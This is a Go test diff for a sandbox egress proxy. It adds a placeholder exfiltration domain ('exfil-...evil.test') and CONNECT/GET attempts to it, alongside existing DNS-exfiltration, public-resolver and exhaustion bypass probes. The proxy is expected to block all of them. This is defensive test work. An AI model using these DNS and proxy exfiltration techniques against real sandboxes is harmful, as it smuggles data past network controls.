@@ -48,6 +48,10 @@ const (
 	bypassAllowedIP   = "198.51.100.7"
 )
 
+// bypassExfilName is a name that carries data out should anyone look it
+// up.
+const bypassExfilName = "exfil-0123456789abcdef.evil.test"
+
 // bypassParallel is how many connections the exhaustion attack opens at
 // once: far above InstallMaxConns.
 const bypassParallel = 512
@@ -118,6 +122,10 @@ func maybeRunBypass() {
 	// resolver (exfiltration by name).
 	say("dns-lookup", lookup("exfil-0123456789abcdef.registry.npmjs.org"))
 	say("dns-udp-public", dialResult("udp", "8.8.8.8:53"))
+	// ... and through the proxy: a name no rule allows must not even be
+	// looked up (a lookup is itself the exfiltration).
+	say("proxy-dns-exfil-connect", exchange(rawConnect(bypassExfilName+":443", bypassExfilName+":443")))
+	say("proxy-dns-exfil-get", exchange(rawGet("http://"+bypassExfilName+"/", bypassExfilName)))
 	// The proxy's unix socket used directly.
 	say("unix-connect-forbidden", unixExchange(rawConnect(evil, evil)))
 	for _, kind := range []string{"listener", "file", "unix", "two"} {
@@ -390,7 +398,7 @@ func TestKnownBypasses(t *testing.T) {
 		if strings.Contains(result, root) || strings.Contains(result, os.TempDir()+"/") {
 			t.Errorf("%s: %q names a host path", name, result)
 		}
-		if strings.HasPrefix(name, "control-") {
+		if strings.HasPrefix(name, "control-") || name == "gilf" { // "gilf egress bridge: ..." on stderr
 			continue
 		}
 		attacks++
@@ -433,7 +441,7 @@ func TestKnownBypasses(t *testing.T) {
 			t.Errorf("the proxy dialed %s, which no rule allows", d)
 		}
 	}
-	for _, name := range []string{"exfil-0123456789abcdef.registry.npmjs.org"} {
+	for _, name := range []string{"exfil-0123456789abcdef.registry.npmjs.org", bypassExfilName} {
 		if _, ok := lookups.Load(name); ok {
 			t.Errorf("the proxy resolved %s: a name no rule allows was looked up", name)
 		}
